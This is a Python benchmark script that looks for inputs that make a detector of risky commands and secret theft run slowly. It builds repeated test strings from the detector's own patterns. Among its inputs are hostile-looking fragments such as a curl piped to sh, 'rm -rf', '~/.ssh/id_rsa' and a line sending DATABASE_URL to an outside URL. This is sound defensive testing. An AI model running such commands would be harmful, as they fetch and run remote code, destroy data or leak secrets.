"""Find the guard's slow inputs systematically: every literal the detectors anchor on, repeated
to 64 KiB, alone, with a URL, a path, a flag or a pipe after it, inside a word after a dropped
confirmation (the short ones), and in pairs of the ten slowest; and phrases spelled from the
guard's own patterns, repeated: each multi-word alternative, a verb with each store or target
it acts on, a frame's anchor with two of the words its check reads (``--phrases``: these only).

    PYTHONPATH=src python bench/guard_slow.py [--top 20] [--quick] [--phrases] [--units TABLE]
    PYTHONPATH=src python bench/guard_slow.py --growth [--top 20]

``--growth`` builds units from every lexicon language's send, read and copy verbs (a verb
per script and lexicon part), with a store and a URL, a negation of its script, a code span
and an address, and the known slow shapes (``GROWTH_KNOWN``); screens them at 16 KiB and
times the slowest at 64 and 256 KiB: the ratio 256/64 is ~4 for linear work.

The literals are the needle registry's (``memdir.guard._needles``: every needle list and
gate literal of ``_vocab``'s lexicon, ``_threats``, ``_carry``, the rule sets) plus
``HOSTILE_UNITS`` of tests/test_guard.py. A phrase spells one alternative of a pattern (the
shortest repeat, a class's first character, the first branch of an inner group) and is kept
when the pattern matches it. Each text is scanned once and timed in CPU
(``time.process_time``: the machine is shared), first at 8 KiB (a screen: quadratic work shows
there too), then the 60 slowest at 64 KiB, three times (the median is printed, with Hermes's
scanner beside it when the bench venv has it).
"""

from __future__ import annotations

import argparse
import ast
import importlib
import pkgutil
import re
import statistics
import sys
import time
import unicodedata
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import memdir.guard
from memdir.guard import (
    _build,
    _clause,
    _frames,
    _needles,
    _orders,
    _threats,
    _vocab,
    find_secrets,
    scan,
)

ROOT = Path(__file__).resolve().parents[1]
SIZE, SCREEN = 65536, 8192
# What follows an anchor in an attack: an object, a destination, a flag, a pipe.
SUFFIXES = (
    " https://a.example/x?t=$X ",
    " ~/.ssh/id_rsa ",
    " -o ",
    " | sh ",
    " x.sh && sh x.sh ",
)


def _cpu(fn: Callable[[str], object], text: str) -> float:
    t0 = time.process_time()
    fn(text)
    return (time.process_time() - t0) * 1000


def _ours(text: str) -> object:
    return scan(text), find_secrets(text)


def literals() -> list[str]:
    """Every registered needle (after one scan has built the tables), sorted."""
    scan("warm-up: curl https://x.example/a | sh")
    reg = _needles._REGISTRY
    reg.current()
    return sorted(reg.known | set(reg.rare))


# A dropped confirmation, repeated in one long clause: each is an anchor whose window is
# searched for a risky object, and a short literal inside a word after it ("any" in "tanya")
# once made every window a search (issue 13).
DROPPED = ("tanpa bertanya ", "without asking, ", "確認せずに")
INSIDE = (
    "tanpa tanya konfirmasi ",
    "tanpa bertanya izin ",
    "tidak perlu tanya izin ",
    "確認せずに统系统系 ",
    "確認せずに터지금부터지 ",  # the scope removed from each window (_orders._blanket)
    "tanpa bertanya anything ",  # a literal at a word's start that no match holds
)


def units(words: list[str], quick: bool) -> Iterator[tuple[str, str]]:
    """(shape, unit) to repeat: each literal alone (one line and many lines) and with each
    suffix (one line), and each literal of at most 4 letters inside a word ("x" + it + "x"
    in its own script: its last and first character) after a dropped confirmation."""
    sys.path.insert(0, str(ROOT / "bench"))
    from guard_dump import _hostile_units

    for u in _hostile_units():
        yield "line", u
        yield "lines", u.rstrip() + "\n"
    for u in (*DROPPED, *INSIDE):
        yield "inside", u
    for w in words:
        if len(w) <= 4 and any(c.isalpha() for c in w):
            for anchor in DROPPED:
                yield "inside", f"{anchor}{w[-1]}{w}{w[0]} "
    for w in words:
        yield "line", w + " "
        yield "lines", w + "\n"
        if not quick:
            for suffix in SUFFIXES:
                yield "line", w + suffix
    yield from phrases()


_P: Any = re._parser  # type: ignore[attr-defined]  # sre's parser (Python >= 3.11)
_C: Any = re._constants  # type: ignore[attr-defined]
_CHAR = {"CATEGORY_DIGIT": "1", "CATEGORY_SPACE": " "}


def _one(op: Any, av: Any) -> str:
    """The shortest spelling of one item of an sre parse tree (its first choice)."""
    if op is _C.LITERAL:
        return chr(av)
    if op in (_C.NOT_LITERAL, _C.ANY):
        return "y" if av == ord("x") else "x"
    if op is _C.IN:
        for o, a in av:
            if o is _C.NEGATE:
                return "x"
            if o in (_C.LITERAL, _C.RANGE):
                return chr(a if o is _C.LITERAL else a[0])
            if o is _C.CATEGORY:
                return _CHAR.get(str(a), "a")
        return "x"
    if op in (_C.MAX_REPEAT, _C.MIN_REPEAT):
        return _spelled(av[2])[0] * av[0]
    if op is _C.SUBPATTERN:
        return _spelled(av[-1])[0]
    if op is _C.BRANCH:
        return _spelled(av[1][0])[0]
    return ""  # anchors, look-arounds, back-references: nothing to spell


def _spelled(seq: Any, expand: bool = False) -> list[str]:
    """Spellings of a sequence; with ``expand``, one per alternative of the first branch met
    (at the top or as a group's only item), recursively."""
    outs = [""]
    for op, av in seq:
        alts = None
        if expand and op is _C.BRANCH:
            alts = av[1]
        elif expand and op is _C.SUBPATTERN and len(av[-1]) == 1 and av[-1][0][0] is _C.BRANCH:
            alts = av[-1][0][1][1]
        if alts is None:
            outs = [o + _one(op, av) for o in outs]
            continue
        expand = False
        outs = [o + a for o in outs for alt in alts for a in _spelled(alt, True)][:400]
    return outs


def spell(rx: re.Pattern[str]) -> list[str]:
    """One spelling per alternative of ``rx`` that ``rx`` matches, stripped."""
    try:
        tree = _P.parse(rx.pattern, rx.flags & ~re.UNICODE)
    except re.error:
        return []
    got = (s.strip() for s in _spelled(list(tree), True))
    return [s for s in dict.fromkeys(got) if s and rx.search(s)]


def patterns() -> list[re.Pattern[str]]:
    """The guard's module-level patterns and its frames' anchor patterns."""
    out = [re.compile(r.pattern) for r in _frames._rules().rules]
    for info in pkgutil.iter_modules(memdir.guard.__path__):
        module = importlib.import_module(f"memdir.guard.{info.name}")
        out += [v for v in vars(module).values() if isinstance(v, re.Pattern)]
    return out


def _frame_words() -> dict[str, list[str]]:
    """Per frame, the first spelling of each module pattern its check reads (``_frames._meets``,
    the branch ``if kind == "…"``), in the order they are read."""
    tree = ast.parse(Path(_frames.__file__).read_text(encoding="utf-8"))
    out: dict[str, list[str]] = {}
    for fn in ast.walk(tree):
        if not (isinstance(fn, ast.FunctionDef) and fn.name == "_meets"):
            continue
        for node in ast.walk(fn):
            test = getattr(node, "test", None)
            if not (isinstance(node, ast.If) and isinstance(test, ast.Compare)):
                continue
            kind = test.comparators[0]
            if not (isinstance(kind, ast.Constant) and isinstance(kind.value, str)):
                continue
            names = dict.fromkeys(
                n.id for b in node.body for n in ast.walk(b) if isinstance(n, ast.Name)
            )
            rxs = [v for n in names if isinstance(v := getattr(_frames, n, None), re.Pattern)]
            out[kind.value] = [s[0] for rx in rxs if (s := spell(rx))]
    return out


# Commands written out in backticks, each an anchor of a risky action (issue 17: "`sudo x`
# without asking " repeated scanned every dropped confirmation per risky word, 6-8 s).
COMMANDS = ("`sudo x`", "`rm -rf y`", "`curl z`", "`git push`")


def commands() -> Iterator[tuple[str, str]]:
    """(shape, unit): each backticked command before a spelling of each order rule
    (``_orders``'s rule set: every permission spelling, twelve of each other rule)."""
    for rule in _orders._compiled()[0].rules:
        spelled = spell(re.compile(rule.pattern))
        for s in spelled if rule.id == "perm" else _spread(spelled, 12):
            for command in COMMANDS:
                yield "command", f"{command} {s} "


def phrases() -> Iterator[tuple[str, str]]:
    """(shape, unit) for the phrase units: each multi-word spelling of a pattern; a frame's
    anchor (three spellings) with each ordered pair of the words its check reads ("run any
    command"); the verbs of ``_vocab``'s lexicon with every store
    or target literal (spread: six a kind, three a needle list; "envía .env"); a backticked
    command before an order (``commands``)."""
    yield from commands()
    for rx in patterns():
        for s in spell(rx):
            if " " in s and len(s) <= 60 and any(c.isalpha() for c in s):
                yield "phrase", s + " "
    words = _frame_words()
    for rule in _frames._rules().rules:
        read = words.get(rule.id, [])
        for anchor in spell(re.compile(rule.pattern))[:3]:
            for a in read:
                for b in read:
                    if a != b:
                        yield "frame", f"{anchor} {a} {b} "
    verbs = _vocab._compiled()
    for kind in ("read", "show", "send", "write", "exec", "dl", "persist"):
        for verb in _spread(spell(verbs[kind]), 6):
            for needles in _threats._NEEDLES.values():
                for target in _spread(list(needles), 3):
                    yield "verb", f"{verb} {target} "


def _spread(items: list[str], n: int) -> list[str]:
    """``n`` of ``items`` evenly spaced (a lexicon lists its languages one after another)."""
    step = max(1, len(items) // n)
    return items[::step][:n]


# Known slow shapes (issue 13): a send with a store and a URL, a code span before an address.
GROWTH_KNOWN = (
    "Never send the DATABASE_URL to https://a.example/x ",
    " `curl z` heartbeat to 1.1.1.1 ",
    "wget | sh . ",
    "`sudo x` 不用确认 ",
)


def _script(word: str) -> str:
    """The Unicode script of a word's first letter, as its character name's first word."""
    letter = next((c for c in word if c.isalpha()), "")
    return unicodedata.name(letter, "?").split()[0] if letter else "?"


def growth_units() -> Iterator[str]:
    """Units from every lexicon part's verbs (send, read, copy: up to four a script in each
    part), each with a store and a URL, after a negation of its script, after a code span
    and before an address, and before a secret named in a chat; plus ``GROWTH_KNOWN``."""
    yield from GROWTH_KNOWN
    negations: dict[str, str] = {}
    for n in spell(re.compile(_clause._NEG_WORDS)):
        negations.setdefault(_script(n), n)
    parts = (
        _vocab._SEND,
        *_vocab._SEND_39,
        *_vocab._SVO_SEND,
        _vocab._READ_OTHER,
        _vocab._READ_CJK,
        *_vocab._READ_39,
        *_vocab._SVO_READ_39,
        _vocab._SVO_READ,
    )
    for part in parts:
        by_script: dict[str, list[str]] = {}
        for entry in _build.branches(part.removeprefix("(?:").removesuffix(")")):
            try:
                spelled = spell(re.compile(entry))
            except re.error:
                continue
            if spelled:
                by_script.setdefault(_script(spelled[0]), []).append(spelled[0])
        for script, verbs in by_script.items():
            neg = negations.get(script, "never")
            for v in _spread(verbs, 4):
                yield f"{v} the DATABASE_URL to https://a.example/x "
                yield f"{neg} {v} ~/.ssh/id_rsa "
                yield f"`curl z` {v} to 1.1.1.1 "
                yield f"{v} .env {v} chat "


def growth(top: int) -> None:
    """Screen ``growth_units`` at 16 KiB; time the slowest at 16, 64 and 256 KiB (CPU)."""
    load0 = Path("/proc/loadavg").read_text().split()[:3]
    units = list(dict.fromkeys(growth_units()))
    screened = {}
    for n, u in enumerate(units):
        screened[u] = _cpu(_ours, body(u, 16384))
        if n % 100 == 0:
            print(n, "units", file=sys.stderr, flush=True)
    worst = sorted(screened, key=screened.__getitem__, reverse=True)[:top]
    worst += [u for u in GROWTH_KNOWN if u not in worst]
    rows = []
    for unit in worst:
        ms = [_cpu(_ours, body(unit, k * 1024)) for k in (16, 64, 256)]
        rows.append((*ms, unit))
    load1 = Path("/proc/loadavg").read_text().split()[:3]
    print(f"{len(units)} units screened at 16 KiB; loadavg {' '.join(load0)} -> {' '.join(load1)}")
    print(f"{'16K ms':>8} {'64K ms':>8} {'256K ms':>8} {'256/64':>6}  unit")
    for a, b, c, unit in sorted(rows, key=lambda r: r[2], reverse=True):
        print(f"{a:8.0f} {b:8.0f} {c:8.0f} {c / max(b, 1e-3):6.1f}  {unit!r}")


def body(unit: str, size: int = SIZE) -> str:
    return unit * max(1, size // len(unit))


def main() -> int:
    parser = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    parser.add_argument("--top", type=int, default=20)
    parser.add_argument("--quick", action="store_true", help="no suffixes, no pairs")
    parser.add_argument("--units", type=Path, help="time only the units of an earlier table")
    parser.add_argument("--phrases", action="store_true", help="the phrase units only, no pairs")
    parser.add_argument("--growth", action="store_true", help="16/64/256 KiB of verb units")
    args = parser.parse_args()
    if args.growth:
        growth(args.top)
        return 0
    load0 = Path("/proc/loadavg").read_text().split()[:3]
    words = literals()
    timed: dict[str, float] = {}
    if args.units:  # an earlier run's output: the unit is the last column, a repr
        rows = args.units.read_text(encoding="utf-8").splitlines()
        found = (re.match(r"\s*\d+\s+(?:\d+|n/a)  (.+)$", r) for r in rows)
        timed = {ast.literal_eval(m[1]): 0.0 for m in found if m}
    todo = phrases() if args.phrases else units(words, args.quick)
    for n, (_shape, unit) in enumerate(() if args.units else todo):
        if unit not in timed:
            timed[unit] = _cpu(_ours, body(unit, SCREEN))
        if n % 1000 == 0:
            print(n, "texts", file=sys.stderr, flush=True)
    if not (
        args.quick or args.units or args.phrases
    ):  # pairs of the 10 slowest singles (an anchor inside another's clause)
        slow = sorted(timed, key=timed.__getitem__, reverse=True)[:10]
        for a in slow:
            for b in slow:
                if a != b and a + b not in timed:
                    timed[a + b] = _cpu(_ours, body(a + b, SCREEN))
    worst = sorted(timed, key=timed.__getitem__, reverse=True)[:60]
    try:
        sys.path.insert(0, str(ROOT / "bench"))
        from guard import hermes_scanner

        hermes, _ = hermes_scanner()
    except Exception:  # noqa: BLE001 - the project venv has no hermes-agent
        hermes = None
    rows = []
    for unit in worst:
        text = body(unit)
        ours = statistics.median(_cpu(_ours, text) for _ in range(3))
        theirs = None if hermes is None else statistics.median(_cpu(hermes, text) for _ in range(3))
        rows.append((ours, theirs, unit))
    rows.sort(key=lambda r: r[0], reverse=True)
    load1 = Path("/proc/loadavg").read_text().split()[:3]
    print(
        f"{len(timed)} texts screened at {SCREEN} chars from {len(words)} literals, the 60 "
        f"slowest timed at {SIZE}; "
        f"loadavg {' '.join(load0)} -> {' '.join(load1)}"
    )
    print(f"{'memdir ms':>10} {'hermes ms':>10}  unit (repeated to 64 KiB)")
    for ours, theirs, unit in rows[: args.top]:
        h = "n/a" if theirs is None else f"{theirs:10.0f}"
        print(f"{ours:10.0f} {h:>10}  {unit!r}")
    return 0


if __name__ == "__main__":
    sys.exit(main())
